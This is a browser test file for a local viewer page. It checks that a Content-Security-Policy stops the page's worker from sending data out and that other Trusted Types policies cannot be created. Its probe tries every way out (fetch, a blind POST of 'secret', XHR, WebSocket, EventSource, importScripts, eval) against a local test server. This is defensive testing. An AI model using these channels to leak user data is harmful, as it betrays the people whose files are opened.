// The promise that nothing leaves, on hosts that send no headers: the worker, which holds what is opened, is under the page's policy
// and proves it at each start. In both browsers.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createServer, request as ask } from 'node:http';
import { join } from 'node:path';
import { checkin, file, launch, openFiles, row, state } from './harness.mjs';
import { host } from './host.mjs';

let browser;
before(async () => { browser = await launch(); });
after(async () => { await browser?.close(); });

const proven = page => page.waitForSelector('html[data-policy]', { state: 'attached' });
const withoutPolicy = ({ name, bytes }) => name === 'index.html' ? bytes.toString().replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '') : undefined;

/** Opens the page in a context of its own. `inWorker` is run in each worker before the page's own script. */
async function visit(site, use, { inWorker, from = browser } = {}) {
  const context = await from.newContext();
  try {
    const page = await context.newPage();
    if (inWorker) await page.addInitScript(text => {
      const Native = Blob;
      window.Blob = function (parts, options) { return new Native(options?.type === 'text/javascript' ? [text, ...parts] : parts, options); };
      window.heard = new Promise(told => { new BroadcastChannel('probe').onmessage = ({ data }) => told(data); });
    }, `(${inWorker})();`);
    await page.goto(site.url);
    await state(page, 'empty');
    await use(page);
  } finally {
    await context.close();
  }
}

/** Runs in the worker: every way out that there is, to a host that listens. */
const tryAll = elsewhere => `async () => {
  const elsewhere = '${elsewhere}', out = {}, violations = new Set();
  addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violations.add(effectiveDirective));
  const ways = {
    fetch: () => fetch(elsewhere),
    'fetch, blind': () => fetch(elsewhere, { mode: 'no-cors', method: 'POST', body: 'secret' }),
    XMLHttpRequest: () => { const request = new XMLHttpRequest(); request.open('GET', elsewhere, false); request.send(); },
    WebSocket: () => new Promise((open, closed) => { const socket = new WebSocket(elsewhere.replace('http', 'ws')); socket.onopen = open; socket.onerror = () => closed(new Error('closed')); }),
    EventSource: () => new Promise((open, closed) => { const source = new EventSource(elsewhere); source.onopen = open; source.onerror = () => { source.close(); closed(new Error('closed')); }; }),
    importScripts: () => importScripts(elsewhere),
    Worker: () => new Promise((open, closed) => { const worker = new Worker(elsewhere); worker.onmessage = open; worker.onerror = () => closed(new Error('closed')); }),
    eval: () => (0, eval)('1'),
    Function: () => new Function('return 1')(),
  };
  for (const [name, way] of Object.entries(ways)) out[name] = await Promise.resolve().then(way).then(() => 'open', () => 'refused');
  new BroadcastChannel('probe').postMessage({ out, violations: [...violations] });
}`;

/** A foreign host that counts whoever comes, down to the connection. */
async function foreignHost() {
  const seen = [];
  const server = createServer((request, response) => { seen.push(request.url); response.setHeader('access-control-allow-origin', '*'); response.end('postMessage(1)'); });
  server.on('connection', () => seen.push('connection'));
  await new Promise(up => server.listen(0, '127.0.0.1', up));
  return { seen, url: `http://127.0.0.1:${server.address().port}/`, stop: () => { server.close(); server.closeAllConnections(); } };
}

test('the_worker_can_connect_nowhere_and_runs_no_text_on_a_host_that_sends_no_headers', async () => {
  const [site, foreign] = [await host(), await foreignHost()];
  try {
    await visit(site, async page => {
      const { out, violations } = await page.evaluate(() => window.heard);
      assert.deepEqual(Object.entries(out).filter(([, how]) => how !== 'refused'), []);
      assert.ok(violations.includes('connect-src'), violations.join());
      assert.deepEqual(foreign.seen, []);
      // And it still reads what is opened.
      await openFiles(page, file('token.plist', checkin));
      await page.waitForSelector(row('/PushMagic'));
    }, { inWorker: tryAll(foreign.url) });
  } finally {
    site.stop();
    foreign.stop();
  }
});

test('without_a_policy_the_same_attempts_get_out', async () => {
  const [site, foreign] = [await host(withoutPolicy), await foreignHost()];
  try {
    await visit(site, async page => {
      const { out } = await page.evaluate(() => window.heard);
      for (const way of ['fetch', 'fetch, blind', 'XMLHttpRequest', 'eval', 'Function']) assert.equal(out[way], 'open', way);
      assert.ok(foreign.seen.includes('/'));
    }, { inWorker: tryAll(foreign.url) });
  } finally {
    site.stop();
    foreign.stop();
  }
});

test('the_page_says_that_the_browser_refused_what_its_worker_tried', async () => {
  const site = await host();
  try {
    await visit(site, async page => {
      await proven(page);
      assert.equal(await page.getAttribute('html', 'data-policy'), 'held');
      assert.match(await page.innerText('.promise'), /^Nothing you open leaves this page: your browser enforces it\./);
      assert.match(await page.innerText('.foot'), /Nothing leaves this page/);
      await page.click('.promise a:visible');
      await page.waitForSelector('dialog[open] :text("the browser refused both")');
      await page.waitForFunction(() => /sends no policy with the script that keeps/.test(document.querySelector('dialog[open]').textContent));
    });
  } finally {
    site.stop();
  }
});

test('where_nothing_enforces_the_promise_the_page_says_so_plainly_and_still_sends_nothing', async () => {
  const site = await host(withoutPolicy), reached = [];
  // All that the browser asks for goes through here, names that cannot be looked up included.
  const proxy = createServer((request, response) => {
    const { host: place } = new URL(request.url);
    reached.push(place);
    if (place !== `127.0.0.1:${site.port}`) return response.writeHead(502).end();
    request.pipe(ask(request.url, { method: request.method, headers: request.headers }, answer => { response.writeHead(answer.statusCode, answer.headers); answer.pipe(response); }));
  });
  proxy.on('connect', ({ url }, socket) => { reached.push(url); socket.end('HTTP/1.1 502 No\r\n\r\n'); });
  await new Promise(up => proxy.listen(0, '127.0.0.1', up));
  const { port } = proxy.address();
  const from = await launch({
    args: [`--proxy-server=http://127.0.0.1:${port}`, '--proxy-bypass-list=<-loopback>'],
    prefs: { 'network.proxy.type': 1, 'network.proxy.http': '127.0.0.1', 'network.proxy.http_port': port, 'network.proxy.ssl': '127.0.0.1', 'network.proxy.ssl_port': port, 'network.proxy.no_proxies_on': '', 'network.proxy.allow_hijacking_localhost': true },
  });
  try {
    await visit(site, async page => {
      await proven(page);
      assert.equal(await page.getAttribute('html', 'data-policy'), 'open');
      assert.match(await page.innerText('.promise'), /^This page sends nothing, but on this host the browser does not enforce that\./);
      assert.match(await page.innerText('.foot'), /not enforced on this host/);
      await page.click('.promise a:visible');
      await page.waitForSelector('dialog[open] :text("On this host the browser does not enforce it")');
      assert.match(await page.innerText('dialog[open]'), /could run code from a text and connect to any address/);
    }, { from });
    assert.ok(reached.includes(`127.0.0.1:${site.port}`), 'the proxy was passed by');
    // Browsers have errands of their own; none leads to a host that the page could name.
    assert.deepEqual(reached.filter(place => place.includes('invalid') || (/^[\d.]+:/.test(place) && place !== `127.0.0.1:${site.port}`)), []);
  } finally {
    await from.close();
    proxy.close();
    proxy.closeAllConnections();
    site.stop();
  }
});

test('a_policy_that_only_reports_is_none', async () => {
  const policy = readFileSync(join(import.meta.dirname, '../../_headers'), 'utf8').match(/Content-Security-Policy: (.*)/)[1];
  const site = await host(answer => { answer.response.setHeader('content-security-policy-report-only', policy); return withoutPolicy(answer); });
  try {
    await visit(site, async page => {
      await proven(page);
      assert.equal(await page.getAttribute('html', 'data-policy'), 'open');
    });
  } finally {
    site.stop();
  }
});

test('under_the_headers_of_a_host_the_script_that_keeps_the_files_is_under_the_policy_too', async () => {
  const policy = readFileSync(join(import.meta.dirname, '../../_headers'), 'utf8').match(/Content-Security-Policy: (.*)/)[1];
  const site = await host(({ response }) => response.setHeader('content-security-policy', policy) && undefined);
  try {
    await visit(site, async page => {
      await page.waitForSelector('html[data-keeper=held]', { state: 'attached' });
      assert.equal(await page.getAttribute('html', 'data-policy'), 'held');
    });
  } finally {
    site.stop();
  }
});

test('a_host_whose_own_policy_knows_no_blob_workers_gets_one_from_its_address', async () => {
  const policy = readFileSync(join(import.meta.dirname, '../../_headers'), 'utf8').match(/Content-Security-Policy: (.*)/)[1].replace("worker-src 'self' blob:", "worker-src 'self'");
  const site = await host(({ response }) => response.setHeader('content-security-policy', policy) && undefined);
  try {
    await visit(site, async page => {
      await proven(page);
      assert.equal(await page.getAttribute('html', 'data-policy'), 'held');
      await openFiles(page, file('token.plist', checkin));
      await page.waitForSelector(row('/PushMagic'));
    });
  } finally {
    site.stop();
  }
});

test('nobody_but_the_page_can_make_a_script_of_an_address', async t => {
  const site = await host();
  try {
    await visit(site, async page => {
      if (!await page.evaluate(() => 'trustedTypes' in window)) return t.skip('Trusted Types came to Firefox after its ESR 140');
      const made = await page.evaluate(() => {
        const tries = {
          policy: () => trustedTypes.createPolicy('other', { createScriptURL: url => url }),
          again: () => trustedTypes.createPolicy('mdm-lens', { createScriptURL: url => url }),
          default: () => trustedTypes.createPolicy('default', { createScriptURL: url => url }),
          script: () => { document.createElement('script').src = './boot.js'; },
          html: () => { document.createElement('p').innerHTML = '<b>'; },
        };
        return Object.keys(tries).filter(name => { try { tries[name](); return true; } catch { return false; } });
      });
      assert.deepEqual(made, []);
    });
  } finally {
    site.stop();
  }
});
